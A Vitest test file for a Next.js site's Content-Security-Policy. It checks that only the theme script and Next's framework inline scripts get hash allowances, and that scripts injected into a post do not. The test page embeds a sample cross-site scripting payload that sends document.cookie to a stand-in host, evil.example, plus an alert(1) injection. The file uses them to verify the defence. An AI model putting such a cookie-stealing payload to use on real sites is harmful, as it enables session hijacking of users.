import crypto from 'node:crypto';
import { IncomingMessage, ServerResponse } from 'node:http';
import { Socket } from 'node:net';

import RenderResult from 'next/dist/server/render-result.js';
import { sendRenderResult } from 'next/dist/server/send-payload.js';
import { describe, expect, it } from 'vitest';

import { contentSecurityPolicy, scriptHash } from '@/lib/security-headers.mjs';
import { THEME_SCRIPT } from '@/lib/theme-script.mjs';

const hash = (text: string) =>
  `'sha256-${crypto.createHash('sha256').update(text).digest('base64')}'`;
const scriptSrc = (policy: string) =>
  policy
    .split(';')
    .map((d) => d.trim())
    .find((d) => d.startsWith('script-src'))
    ?.split(/\s+/)
    .slice(1) ?? [];

// What Next writes into a page: its flight data, their bootstrap and Turbopack's chunk list.
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
const FLIGHT =
  'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[1,[],\\"\\"]\\u003cp\\u003e"])';
const CHUNKS =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a1.js","static/chunks/b2.js"],"runtimeModuleIds":[94553]});';
const INJECTED = 'fetch("https://evil.example/?c="+document.cookie)';
const PAGE = `<!DOCTYPE html><html><head><script>${THEME_SCRIPT}</script><script type="application/ld+json">{"@type":"NewsArticle"}</script></head><body><main><article><p>正文</p><script>${INJECTED}</script><script>self.__next_f.push([1,"x"]);alert(1)</script></article></main><script id="_R_">${CHUNKS}</script><script src="/_next/static/chunks/c3.js" async=""></script><script>${BOOTSTRAP}</script><script>${FLIGHT}</script></body></html>`;

/** The headers the patched Next sends with `body` under `policy`. */
async function served(policy: string, body: RenderResult) {
  const req = new IncomingMessage(new Socket());
  req.method = 'GET';
  const res = new ServerResponse(req);
  let sent = '';
  res.end = ((chunk?: unknown) => {
    sent = String(chunk ?? '');
    return res;
  }) as typeof res.end;
  res.setHeader('Content-Security-Policy', policy);
  await sendRenderResult({
    req,
    res,
    result: body,
    generateEtags: true,
    poweredByHeader: false,
    cacheControl: undefined,
  });
  return { policy: String(res.getHeader('Content-Security-Policy')), sent };
}

const html = (text: string) => RenderResult.fromStatic(text, 'text/html; charset=utf-8');

describe('the Content-Security-Policy', () => {
  it('lets no inline script run but the theme script, named by its hash', () => {
    for (const https of [false, true]) {
      const sources = scriptSrc(contentSecurityPolicy({ https }));
      expect(sources).toEqual(["'self'", scriptHash(THEME_SCRIPT)]);
      expect(scriptHash(THEME_SCRIPT)).toBe(hash(THEME_SCRIPT));
    }
  });

  it('loads nothing over plain http when the site is on https', () => {
    expect(contentSecurityPolicy({ https: true })).not.toMatch(/\bhttp:/);
    expect(contentSecurityPolicy({ https: true })).toContain('upgrade-insecure-requests');
  });
});

describe("Next's inline scripts under that policy (patches/next+16.4.6.patch)", () => {
  const policy = contentSecurityPolicy({ https: true });

  it("names each of a page's framework scripts by its hash, and nothing a post put there", async () => {
    const { policy: sent } = await served(policy, html(PAGE));
    expect(scriptSrc(sent).sort()).toEqual(
      ["'self'", scriptHash(THEME_SCRIPT), hash(BOOTSTRAP), hash(FLIGHT), hash(CHUNKS)].sort(),
    );
    // The rest of the policy is as it was set.
    expect(sent.replace(/ 'sha256-[^']+'/g, '')).toBe(policy.replace(/ 'sha256-[^']+'/g, ''));
  });

  it('does the same for a page streamed as it renders (dynamic pages), which it sends whole', async () => {
    const encoder = new TextEncoder();
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(encoder.encode(PAGE.slice(0, 500)));
        controller.enqueue(encoder.encode(PAGE.slice(500)));
        controller.close();
      },
    });
    const body = new RenderResult(stream, {
      contentType: 'text/html; charset=utf-8',
      metadata: {},
    });
    const { policy: sent, sent: text } = await served(policy, body);
    expect(scriptSrc(sent)).toContain(hash(FLIGHT));
    expect(scriptSrc(sent)).not.toContain(hash(INJECTED));
    expect(text).toBe(PAGE);
  });

  it("leaves a policy that allows 'unsafe-inline' as it is: a hash would turn that off", async () => {
    const loose = "default-src 'self'; script-src 'self' 'unsafe-inline'";
    expect((await served(loose, html(PAGE))).policy).toBe(loose);
  });
});
